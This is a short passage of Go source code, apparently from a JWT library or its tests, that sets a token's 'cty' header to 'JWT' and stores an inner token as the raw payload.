			a.Header = a.Header.Set("cty", "JWT")
			a.rawPayload = []byte(inner)
			return nil
		}}
}
